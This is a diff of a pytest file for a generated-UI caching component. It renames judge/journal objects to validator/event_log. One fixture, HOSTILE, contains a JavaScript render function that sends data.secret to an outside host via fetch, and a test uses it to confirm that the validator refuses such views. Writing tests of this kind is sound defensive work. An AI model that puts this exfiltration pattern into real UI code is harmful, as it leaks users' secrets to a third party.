@@ -4,16 +4,16 @@ import pytest
 from attrs import evolve
 
 from genui_core.application.generation.frozen_maker import FrozenMaker
-from genui_core.application.generation.in_process_judge import InProcessJudge
+from genui_core.application.generation.in_process_validator import InProcessValidator
 from genui_core.application.generation.view_state import ViewState
 from genui_core.domain.cache_key import ViewConfiguration
 from genui_core.domain.exported_views import ExportedSource, ExportedView, schema_hash
 from genui_core.domain.frozen_views import FrozenView, FrozenViews
 from genui_core.domain.prompting.facts import Facts
 from genui_core.domain.tool import Tool
+from genui_core.testing.event_log import RecordingEventLog
 from genui_core.testing.identity import NumberedIdentity
-from genui_core.testing.journal import RecordingJournal
-from genui_core.testing.view_judge import FirstWordJudge
+from genui_core.testing.view_validator import FirstWordValidator
 
 pytestmark = pytest.mark.anyio
 TOOL = Tool({"name": "list", "inputSchema": {"type": "object"}})
@@ -43,9 +43,9 @@ def maker(text="a view", **changed):
     return FrozenMaker(
         views=FrozenViews({"list": view}),
         configuration=ViewConfiguration("set", "9", "hash", 1),
-        judge=FirstWordJudge(),
+        validator=FirstWordValidator(),
         identity=NumberedIdentity(),
-        journal=RecordingJournal(),
+        event_log=RecordingEventLog(),
     )
 
 
@@ -55,12 +55,12 @@ async def test_a_view_is_served_as_it_was_made_and_keeps_its_key():
     assert (view.state, view.source, view.mode) == (ViewState.GENERATED, "a view", "document")
     assert view.key == made.key(TOOL) == ENTRY.cache_key
     assert (view.stored.llm_model, view.stored.request_id, view.stored.prompt_version) == ("m", "then", "0")
-    (brief,) = made.judge.briefs
-    assert (brief.mode, brief.callable_tools, brief.strict) == ("document", {"list", "get"}, True)
-    assert made.journal.events == []
+    (context,) = made.validator.contexts
+    assert (context.mode, context.callable_tools, context.strict) == ("document", {"list", "get"}, True)
+    assert made.event_log.events == []
 
 
-async def test_what_the_judge_mends_is_served_mended():
+async def test_what_the_validator_mends_is_served_mended():
     assert (await maker("sloppy view").view(Facts(tool=TOOL), "now")).source == "sloppy view"
 
 
@@ -77,21 +77,21 @@ async def test_a_view_that_cannot_be_served_is_the_minimal_ui_and_why_is_told(so
     made = maker(source, **changed)
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.source) == (ViewState.MINIMAL, "")
-    (event,) = made.journal.named("frozen_view_not_served")
+    (event,) = made.event_log.named("frozen_view_not_served")
     assert words in event.metadata["reason"]
     assert (event.metadata["tool_name"], event.metadata["request_id"]) == ("list", "now")
 
 
-async def test_a_judge_that_fails_lets_nothing_pass_and_is_asked_again():
-    class Ailing(FirstWordJudge):
-        async def judge(self, _text, _brief):
+async def test_a_validator_that_fails_lets_nothing_pass_and_is_asked_again():
+    class Ailing(FirstWordValidator):
+        async def validate(self, _text, _context):
             raise OSError("no process can be started")
 
-    made = evolve(maker(), judge=Ailing())
+    made = evolve(maker(), validator=Ailing())
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.is_settled) == (ViewState.FALLBACK, False)
     assert "no process can be started" in view.reason
-    assert "no process can be started" in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+    assert "no process can be started" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
 
 
 HOSTILE = """<style></style>
@@ -101,12 +101,12 @@ function render(data, ui) { fetch("https://example.org/" + data.secret); }
 </script>"""
 
 
-async def test_somebody_elses_view_is_judged_as_strictly_as_a_models():
-    made = evolve(maker(HOSTILE, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+async def test_somebody_elses_view_is_validated_as_strictly_as_a_models():
+    made = evolve(maker(HOSTILE, source=evolve(WRITTEN, mode="fragment")), validator=InProcessValidator())
     assert (await made.view(Facts(tool=TOOL), "now")).source == ""
-    assert "checks of views" in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+    assert "checks of views" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
     harmless = HOSTILE.replace('fetch("https://example.org/" + data.secret)', "ui.root.append(data.secret)")
-    made = evolve(maker(harmless, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+    made = evolve(maker(harmless, source=evolve(WRITTEN, mode="fragment")), validator=InProcessValidator())
     assert "ui.root.append" in (await made.view(Facts(tool=TOOL), "now")).source
 
 
@@ -115,14 +115,14 @@ async def test_other_tools_have_no_frozen_view_and_why_is_told(tool, words):
     made = maker()
     assert made.key(tool) is None
     assert await made.view(Facts(tool=tool), "now") is None
-    assert words in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+    assert words in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
 
 
 async def test_a_tool_whose_ui_was_the_minimal_one_keeps_it_without_a_word():
     made = maker(source=None, ui_type="minimal")
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.source) == (ViewState.MINIMAL, "")
-    assert (made.judge.briefs, made.journal.events) == ([], [])
+    assert (made.validator.contexts, made.event_log.events) == ([], [])
 
 
 async def test_a_frozen_view_needs_no_model_until_a_refinement_changes_its_key(workshop):
